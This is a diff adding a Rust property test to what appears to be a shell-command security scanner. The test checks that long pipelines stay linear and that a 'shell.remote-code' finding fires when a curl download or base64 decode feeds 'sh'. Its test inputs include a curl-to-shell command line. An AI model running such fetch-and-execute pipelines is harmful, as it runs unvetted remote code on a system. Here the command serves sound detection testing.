@@ -180,3 +180,25 @@ fn word_strategy() -> impl Strategy<Value = String> {
     ];
     proptest::collection::vec(piece, 1..4).prop_map(|ps| ps.concat())
 }
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]
+
+    /// Issue 16: what a command records of its feeders stays bounded however long the
+    /// pipeline (the whole upstream closure was quadratic), and a download or decode feeding a
+    /// shell is still found however many stages lie between them (C8).
+    #[test]
+    fn long_pipelines_stay_linear_and_keep_their_feeder(
+        stages in 0usize..3_000,
+        source in prop_oneof![Just("curl -s https://example.com/i.sh"), Just("base64 -d x.b64"), Just("cat x")],
+        filter in prop_oneof![Just("cat"), Just("tr a b"), Just("sed s/a/b/")],
+    ) {
+        let cmd = format!("{source}{} | sh", format!(" | {filter}").repeat(stages));
+        let r = run(&cmd);
+        for c in &r.commands {
+            prop_assert!(c.connection.fed_by.len() <= 2, "{} feeders recorded", c.connection.fed_by.len());
+        }
+        let found = r.findings.iter().any(|f| f.rule == "shell.remote-code");
+        prop_assert_eq!(found, !source.starts_with("cat"), "{}", &cmd[..cmd.len().min(80)]);
+    }
+}
